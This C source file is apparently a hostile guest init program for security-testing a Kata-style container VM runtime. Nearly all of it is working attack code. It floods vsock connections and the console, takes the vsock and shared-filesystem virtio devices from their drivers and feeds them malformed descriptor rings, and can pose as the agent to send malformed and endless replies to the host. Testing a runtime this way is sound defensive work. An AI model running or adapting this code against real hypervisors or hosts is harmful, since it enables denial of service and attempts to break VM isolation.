// A guest that turns on its host. It is the guest's init, starts the real agent, and does beside it what a guest's kernel can do:
// - floods of connections, to any port and number, and of words to the console;
// - before the agent begins: takes the channel's device from its driver and writes into its rings what no driver would;
// - once /tmp/share is there: the same to the share's device.
// With "attack=agent" on the kernel's command line it is the agent itself, and answers what is no answer.
// What it has done it appends to /tmp/report of the container.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/vm_sockets.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static const char container[] = "/run/kata-containers/shared/containers/t-attack/rootfs/tmp/";

static void report(const char *format, ...) {
    char path[256];
    snprintf(path, sizeof path, "%sreport", container);
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd < 0) return;
    va_list arguments;
    va_start(arguments, format);
    vdprintf(fd, format, arguments);
    va_end(arguments);
    close(fd);
}

static void wait_for(const char *name) {
    char path[256];
    snprintf(path, sizeof path, "%s%s", container, name);
    while (access(path, F_OK) != 0) usleep(20000);
}

static int dial(unsigned cid, unsigned port) {
    struct sockaddr_vm address = {.svm_family = AF_VSOCK, .svm_cid = cid, .svm_port = port};
    int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd >= 0) connect(fd, (struct sockaddr *)&address, sizeof address);
    return fd;
}

static void flood_connections(void) {
    static const unsigned ports[] = {0, 1, 1024, 1025, 1026, 1027, 2000, 2001, 2002, 2003, 65535, 0x40000001, 0xfffffffe};
    static const unsigned hosts[] = {2, 2, 2, 2, 2, 0, 1, 3, 4, 77};
    int open_ones[512], tried = 0;
    memset(open_ones, -1, sizeof open_ones);
    for (int i = 0; i < 4000; i++) {
        int *slot = &open_ones[i % 512];
        if (*slot >= 0) close(*slot);
        *slot = dial(hosts[rand() % 10], rand() % 3 ? ports[rand() % 13] : (unsigned)rand());
        if (*slot < 0) continue;
        tried++;
        (void)!write(*slot, container, sizeof container);
    }
    for (int i = 0; i < 512; i++)
        if (open_ones[i] >= 0) close(open_ones[i]);
    report("connections %d\n", tried > 3000);
}

static void flood_console(void) {
    static char line[4096];
    memset(line, 'x', sizeof line);
    memcpy(line, "\033[2J\033]0;", 8);
    line[sizeof line - 1] = '\n';
    int fd = open("/dev/console", O_WRONLY | O_NOCTTY);
    // More than the log keeps: an emulated serial port takes them a byte at a time.
    for (int i = 0; i < 140; i++) (void)!write(fd, line, sizeof line);
    close(fd);
    report("console 1\n");
}

// MARK: A virtio device without its driver (virtio 1.2, 4.1)

struct common {
    uint32_t device_feature_select, device_feature, driver_feature_select, driver_feature;
    uint16_t msix_config, num_queues;
    uint8_t device_status, config_generation;
    uint16_t queue_select, queue_size, queue_msix_vector, queue_enable, queue_notify_off;
    uint64_t queue_desc, queue_driver, queue_device;
} __attribute__((packed));

struct device {
    volatile struct common *common;
    volatile uint8_t *notify;
    uint32_t multiplier;
};

// A page that stays where it is, and its address in the guest's memory.
static void *page(uint64_t *physical) {
    void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
    uint64_t entry = 0;
    int fd = open("/proc/self/pagemap", O_RDONLY);
    (void)!pread(fd, &entry, 8, (off_t)((uintptr_t)memory / 4096 * 8));
    close(fd);
    *physical = (entry & ((1ULL << 55) - 1)) * 4096;
    return memory;
}

// The device that was taken from its driver last.
static char seized[32];

static int seize(const char *kind, struct device *device) {
    DIR *all = opendir("/sys/bus/pci/devices");
    struct dirent *entry;
    char path[512], text[16] = "";
    while ((entry = readdir(all))) {
        snprintf(path, sizeof path, "/sys/bus/pci/devices/%s/device", entry->d_name);
        int fd = open(path, O_RDONLY);
        ssize_t got = read(fd, text, 6);
        close(fd);
        if (got == 6 && memcmp(text, kind, 6) == 0) break;
    }
    if (!entry) return -1;
    snprintf(seized, sizeof seized, "%.20s", entry->d_name);
    snprintf(path, sizeof path, "/sys/bus/pci/devices/%s/driver/unbind", entry->d_name);
    int fd = open(path, O_WRONLY);
    (void)!write(fd, entry->d_name, strlen(entry->d_name));
    close(fd);
    snprintf(path, sizeof path, "/sys/bus/pci/devices/%s/config", entry->d_name);
    fd = open(path, O_RDWR);
    uint16_t command = 6;  // memory, bus master
    (void)!pwrite(fd, &command, 2, 4);
    uint8_t at = 0;
    (void)!pread(fd, &at, 1, 0x34);
    volatile uint8_t *bars[6] = {0};
    while (at) {
        struct { uint8_t id, next, length, type, bar, identity, padding[2]; uint32_t offset, size, multiplier; } capability;
        (void)!pread(fd, &capability, sizeof capability, at);
        if (capability.id == 9 && capability.bar < 6 && (capability.type == 1 || capability.type == 2)) {
            if (!bars[capability.bar]) {
                snprintf(path, sizeof path, "/sys/bus/pci/devices/%s/resource%d", entry->d_name, capability.bar);
                int resource = open(path, O_RDWR | O_SYNC);
                void *memory = mmap(NULL, 0x4000, PROT_READ | PROT_WRITE, MAP_SHARED, resource, 0);
                close(resource);
                if (memory == MAP_FAILED) return -2;
                bars[capability.bar] = memory;
            }
            if (capability.type == 1) device->common = (volatile struct common *)(bars[capability.bar] + capability.offset);
            else device->notify = bars[capability.bar] + capability.offset, device->multiplier = capability.multiplier;
        }
        at = capability.next;
    }
    close(fd);
    closedir(all);
    return device->common && device->notify ? 0 : -3;
}

struct descriptor {
    uint64_t address;
    uint32_t length;
    uint16_t flags, next;
};
enum { entries = 16, queues = 2 };

// 1: the device began anew each time it was told to.
static int abuse(const char *kind, int rounds) {
    struct device device = {0};
    int failed = seize(kind, &device);
    if (failed) return failed;
    struct { struct descriptor *descriptors; uint16_t *available; uint64_t addresses[3]; uint16_t notify; } ring[queues];
    uint64_t buffer;
    uint8_t *bytes = page(&buffer);
    for (int i = 0; i < queues; i++) {
        ring[i].descriptors = page(&ring[i].addresses[0]);
        ring[i].available = page(&ring[i].addresses[1]);
        page(&ring[i].addresses[2]);
    }
    int started = 0;
    for (int round = 0; round < rounds; round++) {
        // A queue whose rules are broken stops: the device begins anew.
        if (round % 20 == 0) {
            device.common->device_status = 0;
            device.common->device_status = 3;
            device.common->driver_feature_select = 1;
            device.common->driver_feature = 1;  // VERSION_1
            device.common->driver_feature_select = 0;
            device.common->driver_feature = 0;
            device.common->device_status = 11;
            for (int i = 0; i < queues; i++) {
                memset(ring[i].available, 0, 4096);
                device.common->queue_select = (uint16_t)i;
                device.common->queue_size = entries;
                device.common->queue_desc = ring[i].addresses[0];
                device.common->queue_driver = ring[i].addresses[1];
                device.common->queue_device = ring[i].addresses[2];
                ring[i].notify = device.common->queue_notify_off;
                device.common->queue_enable = 1;
            }
            device.common->device_status = 15;
            started += (device.common->device_status & 4) != 0;
        }
        for (int i = 0; i < queues; i++) {
            // A header that could be a packet's: to the host, from its guest, of any operation, length, and credit.
            for (int at = 0; at < 4096; at++) bytes[at] = (uint8_t)(rand() % 4 ? 0 : rand());
            uint64_t *numbers = (uint64_t *)bytes;
            numbers[0] = 3;
            numbers[1] = 2;
            bytes[28] = 1;
            bytes[30] = (uint8_t)(rand() % 9);
            for (int entry = 0; entry < entries; entry++) {
                const uint64_t addresses[] = {buffer, buffer, buffer + 4000, 0, ~0ULL, 1ULL << 40, ring[i].addresses[0], (uint64_t)rand() << 8};
                const uint32_t lengths[] = {44, 44, 4096, 0, 43, 1 << 20, ~0U, (uint32_t)rand()};
                ring[i].descriptors[entry] = (struct descriptor){addresses[rand() % 8], lengths[rand() % 8], (uint16_t)(rand() % 8), (uint16_t)(rand() % 20)};
            }
            for (int entry = 0; entry < entries; entry++) ring[i].available[2 + entry] = (uint16_t)(rand() % 18);
            __sync_synchronize();
            ring[i].available[1] = (uint16_t)(ring[i].available[1] + (rand() % 30 ? 1 : rand()));
            *(volatile uint16_t *)(device.notify + ring[i].notify * device.multiplier) = (uint16_t)i;
        }
        usleep(500);
    }
    return started == rounds / 20;
}

// Before there is an agent: a machine whose channel has gone is ended by its host. Then the device is its driver's again.
static void abuse_channel(void) {
    mkdir("/sys", 0755);
    mount("sysfs", "/sys", "sysfs", 0, NULL);
    int result = abuse("0x1053", 1000);
    int fd = open("/sys/bus/pci/drivers/virtio-pci/bind", O_WRONLY);
    (void)!write(fd, seized, strlen(seized));
    close(fd);
    dprintf(2, "attack: rings %d\n", result);
    umount2("/sys", MNT_DETACH);
}

// MARK: The agent

static void false_agent(void) {
    struct sockaddr_vm address = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_ANY, .svm_port = 1024};
    int listener = socket(AF_VSOCK, SOCK_STREAM, 0);
    bind(listener, (struct sockaddr *)&address, sizeof address);
    listen(listener, 1);
    int fd = accept(listener, NULL, NULL);
    uint8_t bytes[65536];
    (void)!read(fd, bytes, sizeof bytes);
    // Answers nobody waits for, one that is no message, one of 4 GB that never comes, and noise without an end.
    static const uint8_t answers[] = {0, 0, 0, 1, 0, 0, 0, 99, 2, 0, 7, 0, 0, 0, 0, 0, 0, 0, 2, 9, 9, 0, 0, 0, 4, 0, 0, 0, 1, 2, 0, 0x0b, 0x0b, 0xff, 0xff,
                                      0, 0, 0, 0, 0, 0, 0, 3, 2, 0, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 5, 2, 0};
    (void)!write(fd, answers, sizeof answers);
    for (;;) {
        for (size_t i = 0; i < sizeof bytes; i++) bytes[i] = (uint8_t)rand();
        if (write(fd, bytes, sizeof bytes) <= 0) pause();
    }
}

int main(int count, char **arguments) {
    mount("proc", "/proc", "proc", 0, NULL);
    char line[4096] = "";
    int fd = open("/proc/cmdline", O_RDONLY);
    (void)!read(fd, line, sizeof line - 1);
    close(fd);
    if (strstr(line, "attack=agent")) false_agent();
    abuse_channel();
    umount("/proc");
    if (fork() != 0) {
        arguments[0] = "/init";
        execv("/init", arguments);
        _exit(1);
    }
    (void)count;
    (void)!nice(19);
    // The agent moves to a root of its own.
    mount("proc", "/proc", "proc", 0, NULL);
    while (access("/proc/1/root/sys/bus/pci", F_OK) != 0) usleep(20000);
    if (chroot("/proc/1/root") < 0) _exit(1);
    wait_for("begin");
    flood_connections();
    flood_console();
    wait_for("share");
    // No report: it would have to go through there.
    abuse("0x105a", 400);
    for (;;) pause();
}
